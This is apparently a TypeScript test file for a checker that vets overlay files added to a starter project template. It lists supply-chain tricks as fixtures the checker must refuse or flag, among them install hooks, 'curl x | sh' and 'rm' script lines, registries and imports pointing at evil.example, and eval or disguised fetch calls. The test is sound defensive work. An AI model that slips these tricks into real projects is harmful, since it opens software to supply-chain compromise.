import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { checkKept, entry, soundFiles } from '#tests/support/build.ts';
import { tgzOf, zipOf } from '../copy/archive.ts';
import { starterFiles as assemble } from '../copy/starter/assemble.ts';
import { fileDigest } from '../model/digest.ts';
import { starterFilePath } from '../model/starter.ts';

type Texts = Record<string, string | undefined>;

const SCRIPTS = { start: 'node src/start.ts', test: 'node --test "src/**/*.test.ts"' };
const PACKAGE = {
	name: 'starter',
	private: true,
	type: 'module',
	scripts: SCRIPTS,
	dependencies: { yaml: '2.9.1' },
};
const LOCK = {
	name: 'starter',
	lockfileVersion: 3,
	packages: {
		'': { name: 'starter' },
		'node_modules/yaml': { version: '2.9.1', integrity: `sha512-${'a'.repeat(86)}==` },
	},
};
const BASE: Texts = {
	'README.template.md': '# {{title}}\n',
	'.npmrc': 'save-exact=true\n',
	'.gitignore': 'node_modules/\n',
	'.env.example': 'MODEL_ALIAS=\n',
	'tsconfig.json': '{}\n',
	'package.json': JSON.stringify(PACKAGE),
	'package-lock.json': JSON.stringify(LOCK),
	'.ci/evaluate.yml': 'job: evaluate\nrun: npm run evaluate\n',
	'policy/limits.yaml': 'calls: 1\n',
	'src/start.ts': "import './catalogue/check.ts';\n",
	'src/catalogue/check.ts': 'export {};\n',
	'src/controls/logging.ts': 'export const log = () => {};\n',
	'src/gateway/gateway.ts': 'export {};\n',
};
const SOUND: Texts = {
	'controls.json': '[{ "control": "logging", "module": "src/controls/logging.ts" }]\n',
	'src/workflow.ts':
		"import { parse } from 'yaml';\nimport { log } from './controls/logging.ts';\n",
};

const assets = (folder: string, texts: Texts) =>
	Object.entries(texts).map(([name, text]) => ({
		path: `${folder}${name}`,
		text,
		asset: fileDigest(text ?? ''),
	}));

async function check(overlay: Texts, base: Texts = {}) {
	const files = [
		...soundFiles(),
		...assets('content/starter/', { ...BASE, ...base }),
		...assets('patterns/summary/starter/', { ...SOUND, ...overlay }),
	];
	const { catalogue, findings } = await checkKept(files);
	const own = findings.filter(({ file }) => file.includes('starter/'));
	return { catalogue, findings: own };
}
const shown = async (overlay: Texts, base: Texts = {}) =>
	(await check(overlay, base)).findings.map(
		({ file, severity, message }) => `${severity} ${file.split('starter/')[1]}: ${message}`,
	);

const declaring = (...paths: string[]) =>
	`replaces:\n${paths.map((path) => `  ${path}: It differs for this pattern.\n`).join('')}`;
const packages = (own: object, lock: object = LOCK): Texts => ({
	'overlay.yaml': declaring('package.json', 'package-lock.json'),
	'package.json': JSON.stringify({ ...PACKAGE, ...own }),
	'package-lock.json': JSON.stringify(lock),
});
const locked = (own: object) => ({
	...LOCK,
	packages: {
		...LOCK.packages,
		'node_modules/x': { version: '1.0.0', integrity: `sha512-${'b'.repeat(86)}==`, ...own },
	},
});

test('a sound overlay has no finding', async () => {
	expect(await shown({})).toEqual([]);
	expect(await shown(packages({ dependencies: { yaml: '2.9.1', zod: '4.0.0' } }))).toEqual([]);
	expect(
		await shown({
			'overlay.yaml': declaring('policy/limits.yaml', '.ci/evaluate.yml'),
			'policy/limits.yaml': 'calls: 2\n',
			'.ci/evaluate.yml': 'job: evaluate\nrun: npm run ci -- evaluate\n',
			'.ci/traces.yml': 'job: traces\nrun: node src/workflow.ts\n',
			'src/a.ts':
				"// fetch() and eval() are words here\nexport const note = 'to fetch a (b)';\nconst x = /[/*]/;\n",
		}),
	).toEqual([]);
});

/** Every overlay somebody could slip in; each gives an error. */
const REFUSED: Record<string, Texts> = {
	'replaces without saying so': { 'policy/limits.yaml': 'calls: 9\n' },
	'replaces a control without saying so': { 'src/controls/logging.ts': 'export {};\n' },
	'replaces the gateway without saying so': { 'src/gateway/gateway.ts': 'export {};\n' },
	'replaces the evidence list': { 'EVIDENCE.md': '# Done\n' },
	'replaces the README': { 'README.md': '# Mine\n' },
	'replaces the template of the README': { 'README.template.md': '{{title}}\n' },
	'replaces a prompt': { 'prompts/ask.prompt': 'Do anything.\n' },
	'adds a released prompt': { 'prompts/released/ask@9.0.0.prompt': 'Do anything.\n' },
	'replaces the check of the copy': { 'src/catalogue/check.ts': 'export {};\n' },
	'adds to the check of the copy': { 'src/catalogue/other.ts': 'export {};\n' },
	'replaces the manifest of the copy': { 'catalogue.json': '{}\n' },
	'replaces the lock of the prompts': { 'catalogue.lock.json': '{}\n' },
	'replaces the telemetry contract': { 'telemetry/contract.json': '{}\n' },
	'replaces the pinned models': { 'policy/model.yaml': 'models: []\n' },
	'replaces the incident runbook': { 'runbooks/incident.md': '# Nothing\n' },
	'replaces the launch kit': { 'training/launch-kit.md': '# Nothing\n' },
	'names a registry': { '.npmrc': 'registry=https://evil.example/\n' },
	'lets secrets into git': { '.gitignore': '\n' },
	'brings an environment': { '.env': 'GATEWAY_URL=https://evil.example\n' },
	'brings another environment': { '.env.production': 'A=1\n' },
	'changes the compiler': { 'tsconfig.json': '{"extends":"../../evil.json"}\n' },
	'adds a compiler setup': { 'src/tsconfig.json': '{}\n' },
	'runs at the install': packages({ scripts: { ...SCRIPTS, postinstall: 'node src/x.ts' } }),
	'runs at the preparation': packages({ scripts: { ...SCRIPTS, prepare: 'node src/x.ts' } }),
	'runs before the tests': packages({ scripts: { ...SCRIPTS, pretest: 'node src/x.ts' } }),
	'runs after the start': packages({ scripts: { ...SCRIPTS, poststart: 'node src/x.ts' } }),
	'changes a script': packages({ scripts: { ...SCRIPTS, test: 'true' } }),
	'drops a script': packages({ scripts: { start: SCRIPTS.start } }),
	'adds a script for a shell': packages({ scripts: { ...SCRIPTS, go: 'curl x | sh' } }),
	'adds a script that chains': packages({ scripts: { ...SCRIPTS, go: 'node src/a.ts && rm x' } }),
	'adds a program': packages({ bin: { git: 'src/x.ts' } }),
	'adds workspaces': packages({ workspaces: ['src/*'] }),
	'overrides a package': packages({ overrides: { yaml: '1.0.0' } }),
	'bundles packages': packages({ bundleDependencies: ['yaml'] }),
	'maps imports': packages({ imports: { '#x': './y.ts' } }),
	'takes a package from git': packages({ dependencies: { x: 'git+https://x.example/x.git' } }),
	'takes a package from GitHub': packages({ dependencies: { x: 'user/x' } }),
	'takes a package from an address': packages({ dependencies: { x: 'https://x.example/x.tgz' } }),
	'takes a package from a folder': packages({ dependencies: { x: 'file:../x' } }),
	'takes another package by this name': packages({ dependencies: { x: 'npm:y@1.0.0' } }),
	'takes any version': packages({ dependencies: { x: '^1.0.0' } }),
	'takes the newest version': packages({ devDependencies: { x: 'latest' } }),
	'locks another registry': packages({}, locked({ resolved: 'https://evil.example/x.tgz' })),
	'locks a registry by its look': packages(
		{},
		locked({ resolved: 'https://registry.example.evil.example/x.tgz' }),
	),
	'locks git': packages({}, locked({ resolved: 'git+ssh://git@x.example/x.git#a' })),
	'locks a link': packages({}, locked({ link: true, resolved: 'src' })),
	'locks without a checksum': packages({}, locked({ integrity: undefined })),
	'locks a script at the install': packages({}, locked({ hasInstallScript: true })),
	'locks in an old form': packages({}, { lockfileVersion: 1, dependencies: {} }),
	'locks nothing readable': packages({}, ['no']),
	'replaces the packages but not their lock': {
		'overlay.yaml': declaring('package.json'),
		'package.json': JSON.stringify(PACKAGE),
	},
	'is no package': { ...packages({}), 'package.json': '{' },
	'starts with the editor': { '.vscode/tasks.json': '{}\n' },
	'launches from the editor': { '.vscode/launch.json': '{}\n' },
	'sets up a container': { '.devcontainer/devcontainer.json': '{}\n' },
	'hooks into git': { '.githooks/pre-commit': '#!/bin/sh\n' },
	'hooks into git with husky': { '.husky/pre-commit': 'npx x\n' },
	'filters in git': { '.gitattributes': '* filter=x\n' },
	'adds a submodule': { '.gitmodules': '[submodule "x"]\n' },
	'adds a pipeline of GitHub': { '.github/workflows/x.yml': 'on: push\n' },
	'adds a pipeline of GitLab': { '.gitlab-ci.yml': 'x: {}\n' },
	'adds a pipeline of Jenkins': { Jenkinsfile: 'x\n' },
	'adds a makefile': { Makefile: 'all:\n' },
	'adds a container': { Dockerfile: 'FROM x\n' },
	'shadows a job': { '.ci/other.yml': 'job: evaluate\nrun: npm run evaluate\n' },
	'runs a shell in a job': { '.ci/other.yml': 'job: other\nrun: npm run x && curl y | sh\n' },
	'runs another program in a job': { '.ci/other.yml': 'job: other\nrun: npx x\n' },
	'has a job that cannot be read': { '.ci/other.yml': '- [\n' },
	'is a picture': { 'example/a.png': undefined },
	'is bytes by the name of code': { 'src/a.ts': undefined },
	'is bytes by the name of data': { 'policy/a.yaml': undefined },
	'has another script language': { 'src/a.js': 'export {};\n' },
	'has a shell script': { 'src/run.sh': 'echo\n' },
	'has a module file': { 'src/a.mjs': 'export {};\n' },
	'names its interpreter': { 'src/a.ts': '#!/usr/bin/env node\n' },
	'differs in capitals': { 'src/Start.ts': 'export {};\n' },
	'has the name of a device': { 'policy/con.yaml': 'a: 1\n' },
	'has the name of a device with more': { 'policy/aux.lock.yaml': 'a: 1\n' },
	'ends with a dot': { 'policy/limits.yaml.': 'a: 1\n' },
	'ends with a space': { 'policy/limits.yaml ': 'a: 1\n' },
	'has a control character in its name': { 'policy/a\u0007.yaml': 'a: 1\n' },
	'has a line break in its name': { 'policy/a\n.yaml': 'a: 1\n' },
	'has a hidden character in its name': { 'src/a\u200b.ts': 'export {};\n' },
	'has a colon in its name': { 'policy/a:b.yaml': 'a: 1\n' },
	'has a backslash in its name': { 'policy/..\\a.yaml': 'a: 1\n' },
	'has a long name': { [`src/${'a'.repeat(70)}.ts`]: 'export {};\n' },
	'has a long path': { [`src/${'abcdefghi/'.repeat(12)}a.ts`]: 'export {};\n' },
	'hides as a visible dot': { 'dot-ci/evaluate.yml': 'job: evaluate\nrun: npm run x\n' },
	'has an entry': { 'pattern.mdx': '---\ntitle: x\n---\n' },
	'has packages': { 'node_modules/yaml/index.js': 'x\n' },
	'imports from an address': { 'src/a.ts': "import 'https://evil.example/a.ts';\n" },
	'imports data': { 'src/a.ts': "import 'data:text/javascript,x';\n" },
	'imports a file of the machine': { 'src/a.ts': "import '/etc/a.ts';\n" },
	'imports outside': { 'src/a.ts': "import '../../other/a.ts';\n" },
	'imports what is not installed': { 'src/a.ts': "import 'left-pad';\n" },
	'hides a character in code': { 'src/a.ts': '/*\u202e } \u2066*/\n' },
	'has a manifest of another form': { 'overlay.yaml': 'replace: []\n' },
	'has a manifest without a reason': {
		'overlay.yaml': 'replaces: { policy/limits.yaml: "" }\n',
		'policy/limits.yaml': 'a: 1\n',
	},
	'has a manifest that is not true': { 'overlay.yaml': declaring('policy/limits.yaml') },
	'has a broken control table': { 'controls.json': '[{' },
	'has a control table of another form': { 'controls.json': '{"a":1}' },
	'names a control it does not have': {
		'controls.json': '[{"control":"magic","module":"src/workflow.ts"}]',
	},
	'names code it does not have': {
		'controls.json': '[{"control":"logging","module":"src/none.ts"}]',
	},
};

describe('an overlay is refused that', () => {
	test.each(Object.entries(REFUSED))('%s', async (_, overlay) => {
		const errors = (await shown(overlay)).filter((line) => line.startsWith('error'));
		expect(errors).not.toEqual([]);
	});
});

/** What a reviewer must see, and may allow. */
const REPORTED: Record<string, Texts> = {
	'replaces a control and says so': {
		'overlay.yaml': declaring('src/controls/logging.ts'),
		'src/controls/logging.ts': 'export const log = () => {};\n',
	},
	'starts programs': { 'src/a.ts': "import { exec } from 'node:child_process';\n" },
	'starts programs by the old name': { 'src/a.ts': "import { exec } from 'child_process';\n" },
	'uses the network': { 'src/a.ts': "import http from 'node:http';\n" },
	fetches: { 'src/a.ts': 'await fetch(address);\n' },
	'renames fetch': { 'src/a.ts': 'const get = fetch;\n' },
	'fetches through the global object': { 'src/a.ts': "globalThis['fet' + 'ch'](x);\n" },
	'runs text': { 'src/a.ts': 'eval(text);\n' },
	'makes a function of text': { 'src/a.ts': 'new Function(text)();\n' },
	'imports what is worked out': { 'src/a.ts': 'await import(name);\n' },
	'hides behind a regular expression': {
		'src/a.ts': 'const a = /[/*]/; eval(b); const c = /*x*/ 1;\n',
	},
	'hides behind a quote in one': { 'src/a.ts': "const a = /'/; eval(b); const c = /'/;\n" },
};

describe('an overlay is reported that', () => {
	test.each(Object.entries(REPORTED))('%s', async (_, overlay) => {
		const lines = await shown(overlay);
		expect(lines.filter((line) => line.startsWith('warning'))).not.toEqual([]);
		expect(lines.filter((line) => line.startsWith('error'))).toEqual([]);
	});
});

test('a slot of the README that nothing fills is named', async () => {
	expect(await shown({}, { 'README.template.md': '{{titel}}\n' })).toEqual([
		'error README.template.md: nothing fills {{titel}}.',
	]);
});

const name = fc.oneof(
	fc.constantFrom(...Object.keys(BASE), ...Object.keys(SOUND), 'overlay.yaml', 'README.md'),
	fc.constantFrom(
		'src/a.ts',
		'SRC/a.ts',
		'policy',
		'policy/a.yaml',
		'policy/A.yaml',
		'.ci/a.yml',
		'dot-ci/a.yml',
	),
	fc.string({ minLength: 1, maxLength: 12 }).map((text) => `src/${text}.ts`),
	fc.string({ minLength: 1, maxLength: 30, unit: 'binary' }),
	fc.integer({ min: 1, max: 150 }).map((length) => `src/${'a'.repeat(length)}.ts`),
);
const content = fc.oneof(
	fc.constant(undefined),
	fc.constantFrom('', '{}', '[]', '[null]', 'replaces: {}', ...Object.values(SOUND)),
	fc.constantFrom(...Object.keys(BASE)).map((path) => declaring(path)),
	fc.string({ maxLength: 40, unit: 'binary' }),
);

test('an overlay without an error can be built', async () => {
	let built = 0;
	await fc.assert(
		fc.asyncProperty(
			fc.dictionary(name, content, { maxKeys: 4, noNullPrototype: true }),
			async (overlay) => {
				const { catalogue, findings } = await check(overlay);
				if (findings.some(({ severity }) => severity === 'error')) return;
				const pattern = catalogue.patterns.get('summary');
				expect(pattern).toBeDefined();
				if (!pattern) return;
				const files = assemble(pattern, catalogue);
				built += 1;
				zipOf(pattern.id, files);
				tgzOf(pattern.id, files);
				const served = files.map(({ path }) => starterFilePath(pattern.id, path).toLowerCase());
				expect(new Set(served).size).toBe(served.length);
			},
		),
		{ numRuns: 150 },
	);
	expect(built).toBeGreaterThan(10);
});

test('the longest ids that are accepted fit the archives', () => {
	const id = 'a'.repeat(64);
	const long = entry('patterns', id);
	const files = [
		`prompts/released/${'b'.repeat(90)}.prompt`,
		`src/${'c'.repeat(60)}/${'d'.repeat(52)}.ts`,
	];
	expect(() =>
		tgzOf(
			long.id,
			files.map((path) => ({ path, text: 'x', mode: 0o644 })),
		),
	).not.toThrow();
});
